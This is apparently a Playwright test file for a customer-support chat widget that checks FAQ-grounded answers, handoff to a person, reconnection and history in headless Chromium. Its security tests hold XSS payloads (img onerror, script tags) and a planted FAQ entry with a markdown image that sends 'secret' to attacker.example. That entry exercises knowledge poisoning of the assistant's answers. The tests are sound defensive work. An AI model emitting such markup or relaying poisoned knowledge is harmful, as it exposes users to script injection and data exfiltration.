"""The demo in real headless Chromium: the organisation's page, its backend minting a token, the
widget asking Parlour a question and showing the grounded answer with its citation."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.async_api import (
    Browser,
    ConsoleMessage,
    Page,
    WebSocket,
    async_playwright,
    expect,
)
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from parlour.chat.broker import InProcessBroker
from parlour.chat.models import Author
from parlour.demo import prepare_demo_organisation
from parlour.services import Services
from parlour.web.widget import widget_integrity, widget_script_bytes
from parlour_demo_client.app import create_demo_client
from tests.conftest import Stack
from tests.support.seed import ACTOR
from tests.support.servers import free_socket, start_threaded, url_of

pytestmark = pytest.mark.browser
ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts"
WAIT_MS = 10_000
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]


def chromium_path() -> str:
    path = os.environ.get("PARLOUR_TEST_CHROMIUM") or shutil.which("chromium")
    if not path:
        message = "Debian's chromium is not installed (scripts/setup --for-tests installs it)"
        if os.environ.get("CI") == "true":
            pytest.fail(message, pytrace=False)
        pytest.skip(message)
    return path


@pytest.fixture
async def browser() -> AsyncIterator[Browser]:
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(
            executable_path=chromium_path(), args=CHROMIUM_ARGS
        )
        yield browser
        await browser.close()


@dataclass
class Demo:
    page: Page
    console_errors: list[str]
    services: Services
    tenant_id: str
    agent_email: str = ""
    agent_password: str = ""


@pytest.fixture
async def demo(stack: Stack, browser: Browser) -> AsyncIterator[Demo]:
    # The demo site's origin must be on the allowlist before it serves, so bind it first.
    sock = free_socket()
    client_url = url_of(sock)
    organisation = await prepare_demo_organisation(stack.services, [client_url])
    client_app = create_demo_client(
        parlour_url=stack.url,
        widget_id=organisation.widget_id,
        api_key=organisation.api_key,
        own_origin=client_url,
    )
    client_server = start_threaded(lambda _url: (client_app, None), sock)
    page = await browser.new_page()
    errors: list[str] = []

    def on_console(message: ConsoleMessage) -> None:
        if message.type == "error" and not about_widget_config(message):
            errors.append(message.text)

    page.on("console", on_console)
    page.on("pageerror", lambda error: errors.append(str(error)))
    await page.goto(client_url)
    yield Demo(
        page,
        errors,
        stack.services,
        organisation.tenant_id,
        organisation.agent_email,
        organisation.agent_password,
    )
    await page.close()
    client_server.stop()


def about_widget_config(message: ConsoleMessage) -> bool:
    """The browser's own report of a widget config the server does not have (404, and no CORS
    header on it): the widget falls back to its defaults, as it should, but Chromium logs it."""
    config = "/widget/v1/config/"
    return config in message.text or config in (message.location.get("url") or "")


async def ask(page: Page, question: str) -> None:
    box = page.get_by_role("textbox", name="Your message")
    await box.fill(question)
    await box.press("Enter")


async def test_the_widget_answers_from_the_faq_and_shows_its_source(demo: Demo) -> None:
    page = demo.page
    await page.get_by_role("button", name="Open chat").click()
    await ask(page, "How do I reset my password?")

    answer = page.locator(".msg.assistant").last
    await expect(answer).to_contain_text('tap "Forgot password"', timeout=WAIT_MS)
    await expect(answer.get_by_role("list", name="Sources")).to_have_text(
        "Source: How do I reset my password?"
    )
    await expect(page.locator(".msg.user")).to_have_text("How do I reset my password?")
    await expect(page.locator(".msg.user.pending")).to_have_count(0)
    ARTIFACTS.mkdir(exist_ok=True)
    await page.screenshot(path=ARTIFACTS / "demo-widget-answer.png")
    assert demo.console_errors == []  # the widget runs under the page's strict CSP


async def test_the_widget_acknowledges_its_own_message_once_accepted_delivers_it(
    demo: Demo,
) -> None:
    """No `message` frame comes back to the socket that sent it (docs/protocol.md §4): the
    widget counts `accepted` as its delivery, so a resume starts after it. (Acks are
    cumulative: the one sent may name the answer, seq 2, as well.)"""
    page = demo.page
    async with page.expect_websocket() as opened:
        await page.get_by_role("button", name="Open chat").click()
    socket = await opened.value

    def acks_the_message(payload: str | bytes) -> bool:
        frame = json.loads(payload)
        return bool(frame.get("type") == "ack" and frame["seq"] >= 1)

    async with socket.expect_event("framesent", acks_the_message, timeout=WAIT_MS):
        await ask(page, "How do I reset my password?")
    await expect(page.locator(".msg.user.pending")).to_have_count(0)


async def test_an_unknown_question_offers_a_person_and_handoff_is_confirmed(demo: Demo) -> None:
    page = demo.page
    await page.get_by_role("button", name="Open chat").click()
    await ask(page, "Do you sell car insurance?")
    offer = page.get_by_role("button", name="Talk to a person")
    await expect(offer).to_be_visible(timeout=WAIT_MS)
    await offer.click()
    await expect(page.locator(".msg.system")).to_have_text(
        "We're connecting you to a person…", timeout=WAIT_MS
    )


async def test_markup_in_messages_is_shown_as_text_never_run(demo: Demo) -> None:
    """T-94: a user's (or anyone's) message is text; no markup in it executes."""
    page = demo.page
    payload = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>'
    await page.get_by_role("button", name="Open chat").click()
    await ask(page, payload)
    await expect(page.locator(".msg.user")).to_have_text(payload, timeout=WAIT_MS)
    await expect(page.locator(".msg.assistant")).to_have_count(1, timeout=WAIT_MS)
    assert await page.evaluate("window.__pwned") is None


async def test_an_answer_carrying_exfiltration_markup_shows_text_and_fetches_nothing(
    demo: Demo,
) -> None:
    """T-70: an answer with a markdown image, a script link and an <img onerror> (here from
    planted knowledge that screening held back and an administrator approved all the same,
    which the extractive answer repeats word for word) is streamed and shown as plain text;
    the browser makes no request to the attacker's host."""
    attack = (
        "question,answer\n"
        'What is the cashback rate?,"Cashback is 2% on groceries and 1% on everything else, '
        "paid monthly. ![chart](https://attacker.example/c.png?d=secret) "
        '[Details](javascript:fetch(1)) <img src=https://attacker.example/i onerror=alert(1)>"\n'
    )
    await demo.services.knowledge.upload(demo.tenant_id, "offers.csv", attack.encode(), actor=ACTOR)
    for held in await demo.services.knowledge.review.quarantined(demo.tenant_id):
        await demo.services.knowledge.review.decide(
            demo.tenant_id, held.item_id, approve=True, actor=ACTOR
        )
    requested: list[str] = []
    demo.page.on("request", lambda request: requested.append(request.url))
    page = demo.page
    await page.get_by_role("button", name="Open chat").click()
    await ask(page, "What is the cashback rate?")
    answer = page.locator(".msg.assistant").last
    await expect(answer).to_contain_text("Cashback is 2%", timeout=WAIT_MS)
    await expect(page.locator(".msg.assistant")).to_have_count(1)  # the stream was replaced
    text = await answer.inner_text()
    assert "attacker.example" not in text
    assert "javascript:" not in text
    assert "chart" in text
    assert "Details" in text
    assert await answer.locator("img, a").count() == 0
    assert not [url for url in requested if "attacker.example" in url]
    assert await page.evaluate("window.__pwned") is None


BACKLOG = 500


async def test_t25_the_widget_resumes_a_500_frame_backlog_without_tripping_the_frame_limit(
    stack: Stack, demo: Demo
) -> None:
    """T-25: the frame limit (20 a second) stops floods, not a resume. The node the widget is
    connected to resyncs its sockets (1013, as when it loses Redis); 500 messages arrived
    meanwhile. The widget reconnects, is sent all 500 at once, shows them, acknowledges them
    with a few cumulative acks, and stays connected."""
    page = demo.page
    sockets: list[WebSocket] = []
    page.on("websocket", lambda socket: sockets.append(socket))
    await page.get_by_role("button", name="Open chat").click()
    await ask(page, "How do I reset my password?")
    await expect(page.locator(".msg.assistant")).to_have_count(1, timeout=WAIT_MS)
    conversation = await stack.services.chat.open_conversation(demo.tenant_id, await customer(page))
    for n in range(BACKLOG):
        await demo.services.chat.post(
            demo.tenant_id, conversation.conversation_id, author=Author.AGENT, body=f"reply {n}"
        )
    # The seeding services' broker is not the server's: nothing of those reached the socket.
    await expect(page.locator(".msg.agent")).to_have_count(0)
    last_seq = 2 + BACKLOG
    frames_received: list[str] = []
    acks: list[int] = []
    all_acked = asyncio.Event()
    closes: list[WebSocket] = []

    def on_sent(payload: str | bytes) -> None:
        frame = json.loads(payload)
        if frame.get("type") == "ack":
            acks.append(frame["seq"])
            if frame["seq"] == last_seq:
                all_acked.set()

    def watch(socket: WebSocket) -> None:
        socket.on("framereceived", lambda payload: frames_received.append(str(payload)))
        socket.on("framesent", on_sent)
        socket.on("close", lambda closed: closes.append(closed))

    page.on("websocket", watch)
    resync_sockets(stack)
    await expect(page.locator(".msg.agent")).to_have_count(BACKLOG, timeout=WAIT_MS)
    await expect(page.locator(".msg.agent").last).to_have_text(f"reply {BACKLOG - 1}")
    async with asyncio.timeout(WAIT_MS / 1000):
        await all_acked.wait()
    # Asked after the acks on the same socket: answered, the acks were all read.
    await ask(page, "What is the daily ATM withdrawal limit?")
    await expect(page.locator(".msg.assistant")).to_have_count(2, timeout=WAIT_MS)
    assert closes == []
    assert len(sockets) == 2  # one reconnect, for the resync; none for the frame limit
    replies = [json.loads(frame) for frame in frames_received if '"author":"agent"' in frame]
    assert [reply["seq"] for reply in replies] == list(range(3, last_seq + 1))  # once each
    assert len(acks) < BACKLOG  # cumulative: a few acks for the whole backlog
    assert demo.console_errors == []


async def customer(page: Page) -> str:
    """The demo customer this page is signed in as (the demo site's cookie)."""
    cookies = await page.context.cookies()
    return next(c["value"] for c in cookies if c["name"] == "demo_customer")


def resync_sockets(stack: Stack) -> None:
    """Tell every socket of the server's node that events may have been lost (what its broker
    does when it loses Redis): they close with 1013, and clients resume."""
    services = stack.app.state.services
    broker = services.chat.broker
    assert isinstance(broker, InProcessBroker)
    loop = stack.server.server.servers[0].get_loop()
    loop.call_soon_threadsafe(broker.resync_all)


async def ask_reload_and_find_the_conversation(page: Page) -> None:
    await page.get_by_role("button", name="Open chat").click()
    await ask(page, "What is the daily ATM withdrawal limit?")
    await expect(page.locator(".msg.assistant")).to_have_count(1, timeout=WAIT_MS)
    await page.reload()
    await page.get_by_role("button", name="Open chat").click()
    await expect(page.locator(".msg")).to_have_count(2, timeout=WAIT_MS)


async def test_history_is_there_after_a_reload(demo: Demo) -> None:
    await ask_reload_and_find_the_conversation(demo.page)


async def test_a_guest_chats_as_a_visitor_and_finds_the_conversation_after_a_reload(
    demo: Demo,
) -> None:
    """A page without a token provider: the widget opens an anonymous visitor session (the
    organisation allows them) and comes back to it after a reload with its return token."""
    page = demo.page
    await page.goto(page.url.rstrip("/") + "/guest")
    await ask_reload_and_find_the_conversation(page)
    assert demo.console_errors == []


async def test_a_guest_where_visitors_are_not_allowed_is_told_chat_is_unavailable(
    stack: Stack, demo: Demo
) -> None:
    """The organisation turned anonymous visitors off: the socket closes with 4403 and the widget
    says so instead of retrying."""
    page = demo.page
    widget_id = await page.locator("script[data-widget-id]").get_attribute("data-widget-id")
    tenant = await stack.services.tenants.find_by_widget_id(widget_id or "")
    assert tenant is not None
    await stack.services.tenants.set_anonymous_visitors(tenant.tenant_id, False, actor=ACTOR)
    await page.goto(page.url.rstrip("/") + "/guest")
    await page.get_by_role("button", name="Open chat").click()
    await expect(page.get_by_role("status")).to_have_text(
        "Chat is not available on this page.", timeout=WAIT_MS
    )


def page_loading_the_widget(script: bytes) -> Starlette:
    """A site whose page loads the widget the way the embed snippet says, with Parlour's
    integrity hash for the script as Parlour serves it, but from this site, which answers with
    `script`."""
    tag = f'<script src="/widget.js" integrity="{widget_integrity()}" crossorigin="anonymous">'

    async def home(_request: Request) -> Response:
        return HTMLResponse(f"<!doctype html><title>Shop</title>{tag}</script>")

    async def widget(_request: Request) -> Response:
        return Response(script, media_type="text/javascript")

    return Starlette(routes=[Route("/", home), Route("/widget.js", widget)])


@pytest.mark.parametrize("tampered", [False, True])
async def test_a_widget_script_changed_on_the_way_is_refused_by_the_browser(
    browser: Browser, tampered: bool
) -> None:
    """T-92: with the snippet's integrity hash, Chromium runs the script Parlour serves and
    refuses one changed by a CDN, a proxy or anyone between."""
    script = widget_script_bytes()
    if tampered:
        script += b"\nwindow.__tampered = true;\n"
    site = start_threaded(lambda _url: (page_loading_the_widget(script), None))
    page = await browser.new_page()
    refusals: list[str] = []
    page.on("console", lambda m: refusals.append(m.text) if "integrity" in m.text else None)
    try:
        await page.goto(site.url)
        loaded = await page.evaluate("typeof window.Parlour")
        ran_extra = await page.evaluate("window.__tampered === true")
    finally:
        await page.close()
        site.stop()
    if tampered:
        assert (loaded, ran_extra) == ("undefined", False)
        assert refusals, "Chromium said nothing of the integrity check"
    else:
        assert loaded == "object"
        assert refusals == []
